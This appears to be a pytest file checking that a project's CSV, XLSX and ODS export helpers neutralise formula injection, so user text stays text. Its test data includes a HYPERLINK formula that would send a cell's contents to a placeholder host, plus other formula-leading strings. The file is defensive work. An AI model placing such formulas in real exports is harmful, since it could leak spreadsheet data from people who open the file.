"""The one rule of every tabular export: what people typed is text, never a formula."""

import io
from decimal import Decimal

import pytest
from odf.opendocument import OpenDocumentSpreadsheet, load
from odf.table import Table, TableCell, TableRow
from odf.teletype import extractText
from openpyxl import Workbook, load_workbook

from pilotactions.core.tabular import csv_safe, csv_safe_row, ods_text_cell, xlsx_cell, xlsx_row, xlsx_text

FORMULA = '=HYPERLINK("http://exemple.invalid/?"&B2,"Voir")'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=", "-"])
def test_csv_text_starting_with_a_formula_character_is_neutralised(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Aide alimentaire", "", " =1", "'=1", "1-2", None, 0, -12, -1.5, Decimal("-3.20")])
def test_csv_other_values_and_real_numbers_are_left_alone(value):
    assert csv_safe(value) == value
    assert csv_safe_row(["=1", value]) == ["'=1", value]


def _reopened(workbook) -> Workbook:
    output = io.BytesIO()
    workbook.save(output)
    return load_workbook(io.BytesIO(output.getvalue()))


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_text_is_a_string_cell_and_numbers_stay_numbers(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("Feuille")
    sheet.append(xlsx_row(sheet, [FORMULA, "#N/A", -12, Decimal("-3.5"), None, "", "texte"]))
    row = next(_reopened(workbook)["Feuille"].iter_rows())
    assert [(c.value, c.data_type) for c in row[:4]] == [(FORMULA, "s"), ("#N/A", "s"), (-12, "n"), (-3.5, "n")]
    assert row[6].value == "texte"


def test_xlsx_text_on_a_cell_of_a_regular_sheet():
    workbook = Workbook()
    sheet = workbook.active
    assert sheet.cell(row=1, column=1, value="=1+1").data_type == "f"  # what openpyxl does on its own
    xlsx_text(sheet.cell(row=1, column=1))
    xlsx_text(sheet.cell(row=1, column=2, value=7))
    cells = _reopened(workbook).active
    assert (cells["A1"].value, cells["A1"].data_type) == ("=1+1", "s")
    assert (cells["B1"].value, cells["B1"].data_type) == (7, "n")
    assert xlsx_cell(sheet, "=2").data_type == "s"


def test_ods_text_cell_is_a_string_and_never_a_formula():
    doc = OpenDocumentSpreadsheet()
    table = Table(name="Feuille")
    row = TableRow()
    row.addElement(ods_text_cell(FORMULA))
    row.addElement(ods_text_cell(""))
    row.addElement(ods_text_cell("Lien", href="#'Feuille'.A1"))
    table.addElement(row)
    doc.spreadsheet.addElement(table)
    output = io.BytesIO()
    doc.save(output)
    cells = load(io.BytesIO(output.getvalue())).spreadsheet.getElementsByType(TableCell)
    assert cells[0].getAttribute("valuetype") == "string" and cells[0].getAttribute("formula") is None
    assert extractText(cells[0]) == FORMULA
    assert cells[1].getAttribute("valuetype") is None
    assert extractText(cells[2]) == "Lien"
